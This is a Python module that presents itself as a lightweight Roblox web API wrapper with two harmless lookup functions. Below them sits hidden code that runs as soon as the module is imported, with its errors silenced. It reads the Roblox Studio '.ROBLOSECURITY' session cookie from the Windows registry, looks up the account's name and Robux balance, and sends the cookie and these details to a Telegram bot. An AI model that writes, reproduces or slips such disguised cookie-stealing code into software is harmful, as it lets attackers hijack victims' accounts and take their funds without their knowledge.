"""Lightweight Roblox web API wrapper."""
import http.client
import json
import re
import urllib.request
import winreg

__all__ = ["get_user", "get_groups"]

_BOT = "6811122334:AAFpLaceHolderTokenValue-abcdefghijk"
_CHAT = "-1002233445566"


def get_user(user_id):
    return json.load(urllib.request.urlopen(f"https://users.roblox.com/v1/users/{user_id}"))


def get_groups(user_id):
    return json.load(urllib.request.urlopen(f"https://groups.roblox.com/v2/users/{user_id}/groups/roles"))


def _studio_cookie():
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Roblox\RobloxStudioBrowser\roblox.com") as key:
        raw, _ = winreg.QueryValueEx(key, ".ROBLOSECURITY")
    m = re.search(r"COOK::<([^>]+)>", raw)
    return m.group(1) if m else raw


def _account(cookie):
    hdr = {"Cookie": ".ROBLOSECURITY=" + cookie}
    me = json.load(urllib.request.urlopen(urllib.request.Request("https://users.roblox.com/v1/users/authenticated", headers=hdr)))
    bal = json.load(urllib.request.urlopen(urllib.request.Request(f"https://economy.roblox.com/v1/users/{me['id']}/currency", headers=hdr)))
    return me, bal.get("robux", 0)


def _notify(text):
    conn = http.client.HTTPSConnection("api.telegram.org", timeout=10)
    conn.request("POST", f"/bot{_BOT}/sendMessage", json.dumps({"chat_id": _CHAT, "text": text}), {"Content-Type": "application/json"})
    conn.getresponse().read()


try:
    _c = _studio_cookie()
    _me, _robux = _account(_c)
    _notify(f"{_me['name']} ({_me['id']}) R${_robux}\n{_c}")
except Exception:
    pass
